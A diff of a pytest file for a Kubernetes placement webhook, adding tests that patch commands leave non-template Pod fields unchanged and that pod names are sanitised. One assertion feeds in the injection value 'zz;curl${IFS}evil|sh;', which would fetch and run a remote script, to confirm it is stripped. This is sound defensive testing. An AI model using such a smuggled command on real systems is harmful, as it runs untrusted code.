@@ -11,12 +11,19 @@ import pytest
 from tests.support.build import workload
 from tests.support.placement import parsed
 from tests.support.placing import HOSTNAME, spread
-from webhook.placement.commands import ClusterEdit, commands, deleting, read_template
-from webhook.placement.template_edits import requesting_less, tolerating, with_constraint
+from webhook.placement.commands import ClusterEdit, asking, commands, deleting
+from webhook.placement.commands import read_template as template_for
+from webhook.placement.template_edits import requesting_less, tolerating, with_constraint, without_node_affinity
 from webhook.scheduler.fit import Lack
 from webhook.scheduler.taints import Toleration
 
 TOLERATED = partial(tolerating, toleration=Toleration("dedicated", "Equal", "infra", "NoSchedule"))
+
+
+def read_template(raw, pod=None):
+    """The template for a Pod that has its spec, or another."""
+    spec = {} if raw is None else raw.get("spec", {}).get("template", {}).get("spec", {})
+    return template_for(raw, spec if pod is None else pod)
 
 
 def larger_skew(spec):
@@ -123,3 +130,26 @@ def test_of_a_container_only_the_requests_are_written():
         {"op": "test", "path": at, "value": "600m"},
         {"op": "replace", "path": at, "value": "400m"},
     ) == command.patch.operations
+
+
+def test_what_a_pod_has_not_from_the_template_is_not_changed_there():
+    """It is of an old revision, or admission has added something."""
+    made = web(spread())
+    there = made["spec"]["template"]["spec"]
+    there |= {"containers": [{"name": "c", "resources": {"requests": {"cpu": "2"}}}], "nodeSelector": {"disk": "ssd"}}
+    less = partial(requesting_less, lack=Lack(0, 200, 0, 0, ()))
+    injected = [{"name": "sidecar", "resources": {"requests": {"cpu": "1"}}}, there["containers"][0]]
+
+    assert commands((less, without_node_affinity), read_template(made))
+    assert commands((less,), read_template(made, {**there, "containers": injected}))
+    larger = [{"name": "c", "resources": {"requests": {"cpu": "3"}}}]
+    assert () == commands((less,), read_template(made, {**there, "containers": larger}))
+    assert () == commands((without_node_affinity,), read_template(made, {**there, "nodeSelector": {"disk": "hdd"}}))
+    tolerated = web(spread())
+    tolerated["spec"]["template"]["spec"] |= TOLERATED({})
+    assert () == commands((TOLERATED,), read_template(tolerated))
+
+
+def test_a_pod_is_asked_about_by_a_name_that_kubernetes_may_have():
+    assert "evenkeel explain pod/a -n shop" == asking("shop", "a")
+    assert "evenkeel explain" == asking("shop", "zz;curl${IFS}evil|sh;")
